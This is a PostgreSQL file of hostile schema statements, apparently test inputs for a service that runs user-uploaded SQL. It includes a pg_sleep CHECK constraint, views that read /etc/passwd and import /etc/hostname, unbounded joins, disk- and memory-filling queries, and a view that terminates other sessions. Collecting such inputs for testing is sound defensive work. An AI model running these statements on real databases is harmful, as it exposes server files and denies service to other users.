-- What a stranger may upload: each statement is legal, and does harm where it runs unbounded.
CREATE TABLE ovens (
  id BIGSERIAL PRIMARY KEY,
  name VARCHAR(40) NOT NULL,
  heat INTEGER NOT NULL DEFAULT 1,
  lit_at TIMESTAMPTZ
);

CREATE TABLE loaves (
  id BIGSERIAL PRIMARY KEY,
  oven_id BIGINT NOT NULL REFERENCES ovens (id),
  label TEXT NOT NULL,
  CHECK (pg_sleep(7200) IS NOT NULL)
);

-- Reads files of the server.
CREATE VIEW accounts_of_the_machine AS SELECT pg_read_file('/etc/passwd') AS line, 1 AS number;

-- Takes a file into the database.
CREATE VIEW imported AS SELECT lo_import('/etc/hostname') AS number;

-- Never ends.
CREATE VIEW endless AS SELECT count(*) AS number FROM generate_series(1, 1000000000) a, generate_series(1, 1000000000) b;

-- Fills the disk.
CREATE VIEW filling AS SELECT DISTINCT repeat(md5(n::text), 1000) AS line FROM generate_series(1, 100000000) n ORDER BY 1;

-- Fills the memory.
CREATE VIEW swelling AS SELECT string_agg(repeat('x', 1000000), '') AS line FROM generate_series(1, 100000);

-- Ends connections of others.
CREATE VIEW ended AS SELECT count(pg_terminate_backend(pid)) AS number FROM pg_stat_activity WHERE pid <> pg_backend_pid();
